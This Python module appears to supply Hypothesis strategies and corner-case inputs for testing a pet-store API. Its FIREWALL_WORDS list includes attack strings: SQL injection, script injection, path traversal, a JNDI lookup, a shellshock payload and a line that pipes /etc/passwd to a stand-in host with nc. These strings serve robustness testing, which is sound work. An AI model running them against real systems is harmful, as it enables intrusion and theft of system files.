"""Hypothesis strategies for payloads, parameters and identifiers, and the corner cases that every run covers first."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Final

if TYPE_CHECKING:
    from hypothesis import strategies as st
else:

    class _Later:
        """Hypothesis' strategies, imported where the first one is made: a smoke run has no use for them."""

        def __getattr__(self, name: str) -> Any:
            if name.startswith("_"):  # pytest looks at what a module of drivers has
                raise AttributeError(name)
            from hypothesis import strategies  # noqa: PLC0415

            return getattr(strategies, name)

    st = _Later()

__all__ = ["st"]

INT64_MINIMUM: Final = -(2**63)
INT64_MAXIMUM: Final = 2**63 - 1
STATUSES: Final = ("available", "pending", "sold")

# Two of a kind: if a first reading differs for one animal alone, two more like it would have to be created.
NAME_CORNERS: Final = (
    # Emoji of several characters: a family, and flags.
    "\U0001f98a\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f1e9\U0001f1ea",
    # Letters of Latin, Cyrillic, Greek, Hebrew, Thai and Hangul.
    "\u00e9\u00df\u0130\u0131\u00e4\u00f6\u00fc\u0416\u0443\u0447\u0451\u03bb\u03c2\u05d7\u0e41\uac15",
    # Among them what markup, and guards that protect personal data, take out.
    "quote \" apostrophe ' backslash \\ slash / O'Brien Tom's \"\" '' (tm) -> 1/2 a,b #1 why?! ... (c) rex@animals.example https://animals.example/?a=b **Rex** [Rex](/rex) 078-05-1120 4111 1111 1111 1111",
    # With signs that encodings lack or swap, and a capital that has no lower case of its own.
    "\u8c93\u72ac\u306d\u3053 \u20ac \u00a5 \u301c\uff5e \u1e9e \u0661\u0662\u0426\u0456\u00c4\u03a3\u03b1\u05d0\u0e2b\ud55c\\",
    '<b onclick="x()">&amp;</b> &eacute; &#233; &nbsp; %20 + ; --',
    "e\u0301o\u0308\u0323\u0331\u2126 Cockatoo and Titmouse zzzz.",
    "a\x00b",
    # All of its characters are in Latin-1; some of them are others in the code page that Windows has instead.
    "tab\tline\nreturn\r\x0b\x93end",
    "\U0001d504\U0010ffff\ufffe\U0001f9d1\u200d\U0001f680\U0001f1ef\U0001f1f5",
    "\x00c\x00d",
    "\x01\x1b\x7f\x85\x0c\x08end\u034f\ufffd\U000e0067",
    # The last byte of the last letter is a space to code that trims bytes.
    "\u202eleft\u200d\ufeffjoined\u2066\u061c\u2069\u2028line\u00a0apart\u00e0",
    "{{7*7}} ${x} $(x) `x` \\u0041 \\n",
    "\u1e9b\u0323\u212b\u212a\ufb01q\u3000\u0307\u0323\u0302 yyyy\\",
    "\u00a0\u200b\u200e\u2067\u061c\u2069\u2060\ufe0f\u00ad \u2019\u201c\u201d\u2013\u2014 \ue000 \u06f1 :) :cat: $$ $1 $& ^ ~ %s %d {0} 100% d'Arc c,d #2 no?! ... (r) cat@animals.example http://animals.example/ \"\" '' __cat__ [cat](/cat) 219-09-9999 5500 0000 0000 0004 \\",
    "a\r\nb\n\nc.",
)
LONG_NAME_CORNERS: Final = (
    "x" * 240 + "!", "y" * 300 + "/", "\u00e9\U0001f43e\u20ac" * 70, "z" * 1100, "w" * 1200, "v" * 4200, "u" * 8000,
)  # fmt: skip
# In front of a name: what other formats begin a value with, and what is not a letter of one byte.
FRONT_CORNERS: Final = (
    "-", "=", "'", '"', "@", "#", "/", "[", "\U0001f98a", ":", "\u00e9", "+", ".", "$", "{", "_",
)  # fmt: skip
# What firewalls take for an attack, though it does no harm as a text.
FIREWALL_WORDS: Final = (
    " ' OR '1'='1'; DROP TABLE pets; --",
    " UNION SELECT NULL, version() FROM information_schema.tables",
    " <script>alert(1)</script><img src=x onerror=alert(1)>",
    " ../../../../etc/passwd",
    " ${jndi:ldap://animals.example/a}",
    " ; cat /etc/passwd | nc animals.example 80",
    " <?php system('id'); ?> *)(uid=*))(|(uid=*",
    " () { :; }; echo shown\r\nSet-Cookie: shown=1\r\n",
)
# Names that loosely typed code reads as numbers, booleans, nulls, dates, quoted texts and formulas.
LOOKALIKE_NAMES: Final = (
    "{thousands}", "0{}", "{}", "{}e1", "true", "null", "NULL", "{}.50", '"{}"', "={}",
    "{moment:%Y-%m-%dT%H:%M:%SZ}", "{moment:%Y-%m-%d}",
    # Properties that every JavaScript object has.
    "__proto__", "constructor",
    # Names of one letter, or of none.
    "x", "\U0001f98a", "no", "undefined", "NaN", "[]",
)  # fmt: skip
OUTER_SPACE_NAMES: Final = (" inner  space ", "\tname\n")

CATEGORY_ID_CORNERS: Final = (
    2**53 + 1, INT64_MAXIMUM, INT64_MINIMUM, 2**31, -(2**53) - 1, 2**32 + 1, 0, -1, 2**31 - 1, -(2**31) - 1,
    INT64_MAXIMUM - 1, 10**18 + 1, 200, 40_000, -200, 3_000_000_000,
)  # fmt: skip

LIMIT_CORNERS: Final = (1, 2, 20, 21, 100, 99, 19, 50, 5, 30, 10)
INVALID_LIMITS: Final = (
    "101", "0", "abc", "1000", "-1", "1.5", "2147483648", "9223372036854775808", "1" * 400, "inf",
    # One more than the largest is a negative number to some, or none.
    "2147483647", "9223372036854775807", "4294967296", "1a", "500abc", "-9223372036854775809", "5'\"", "all",
    # A digit to some parsers, and an integer to none.
    "\u00b2",
)  # fmt: skip
# A deployment that reads some of these as integers has to keep to the maximum.
OPEN_LIMITS: Final = ("", "+500", "05", "150.0", " 500", "1e3", "1e400", "0x3e8")
INVALID_STATUSES: Final = (
    "lost", "unknown" * 50, "available,sold", "*", "so\"ld'", "constructor", "__class__", "gr\u00f6\u00dfe \U0001f98a",
)  # fmt: skip
OPEN_STATUSES: Final = ("", "SOLD", "Available")

MALFORMED_PET_IDS: Final = (
    "abc", "1.5", "1a", "9" * 96,
    "a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11", "18446744073709551617", "NaN", "constructor", "-", "_",
)  # fmt: skip
OPEN_PET_IDS: Final = ("+1", "1.0", "1e0", "\u00b2", "1\x00", "%", "gr\u00f6\u00dfe \U0001f98a")


def names(maximum_length: int = 60) -> st.SearchStrategy[str]:
    """Texts of Unicode scalar values, all of them reachable, with more of those that storage tends to lose."""
    fragile = st.sampled_from(
        "\x00\x1f\x7f\u0301\u200d\ufeff\ufffd\uffff\U0001f600\U00010000\U0010ffff\"'\\<>&%"
    )
    # Not affected by the trimming or normalisation of names, which are left open.
    scalar_values = st.characters(exclude_categories=["Cs"])
    # Not st.text: it merges the alphabets into one, in which the fragile characters are as rare as all others.
    characters = st.one_of(scalar_values, fragile)
    return st.lists(characters, min_size=1, max_size=maximum_length).map("".join)


def category_ids() -> st.SearchStrategy[int]:
    """All of int64, with more values at its bounds and at the bounds of narrower types."""
    edges = [edge + step for edge in (-(2**53), -(2**31), 0, 2**31, 2**32, 2**53) for step in (-1, 0, 1)]
    near_ends = st.integers(0, 3).flatmap(lambda n: st.sampled_from((INT64_MINIMUM + n, INT64_MAXIMUM - n)))
    return st.one_of(st.integers(INT64_MINIMUM, INT64_MAXIMUM), st.sampled_from(edges), near_ends)


def statuses() -> st.SearchStrategy[str | None]:
    """One of the three statuses, or ``None``."""
    return st.sampled_from((*STATUSES, None))


def limits() -> st.SearchStrategy[int]:
    """All valid limits, with more values at and next to the bounds."""
    return st.one_of(st.integers(1, 100), st.sampled_from(LIMIT_CORNERS))


def limits_with_statuses() -> st.SearchStrategy[tuple[int, str]]:
    """Every combination of a valid limit and a status."""
    return st.tuples(limits(), st.sampled_from(STATUSES))


def invalid_limits() -> st.SearchStrategy[int]:
    """Integers outside 1 to 100."""
    return st.one_of(st.integers(101, 2**70), st.integers(-(2**70), 0))


def not_strings() -> st.SearchStrategy[Any]:
    """JSON values that are not strings."""
    return st.one_of(
        st.none(),
        st.booleans(),
        st.integers(-(2**70), 2**70),
        _fractions(),
        st.lists(st.text(max_size=3), max_size=2),
        st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
    )


def not_integers() -> st.SearchStrategy[Any]:
    """JSON values that are not integers, including numerals in strings, but not integral floats (which are left open)."""
    return st.one_of(
        st.none(),
        st.booleans(),
        _fractions(),
        st.integers(-(2**63), 2**63 - 1).map(str),
        st.text(max_size=5),
        st.lists(st.integers(), max_size=2),
        st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
    )


def not_statuses() -> st.SearchStrategy[Any]:
    """JSON values that are not a valid status, including ``None`` for null."""
    other_cases = st.sampled_from(STATUSES).flatmap(
        lambda word: st.sampled_from(
            (word.upper(), word.title(), f" {word}", f"{word} ", word[:-1], f"{word}s", f"{word}\x00")
        )
    )
    return st.one_of(
        other_cases, st.text(max_size=8).filter(lambda text: text not in STATUSES), not_strings()
    )


def beyond_int64() -> st.SearchStrategy[int]:
    """Integers outside the int64 range, some of which look valid if truncated to 64 or 32 bits."""
    return st.one_of(
        st.integers(INT64_MAXIMUM + 1, 2**80),
        st.integers(-(2**80), INT64_MINIMUM - 1),
        st.integers(1, 100).map(lambda small: 2**64 + small),
    )


def far_ids() -> st.SearchStrategy[int]:
    """Identifiers that no deployment is likely to have assigned: most of int64, including its bounds."""
    return st.one_of(st.integers(2**40, INT64_MAXIMUM), st.integers(INT64_MINIMUM, -(2**40)))


def _fractions() -> st.SearchStrategy[float]:
    return st.floats(-1e6, 1e6, allow_nan=False).filter(lambda number: number != int(number))
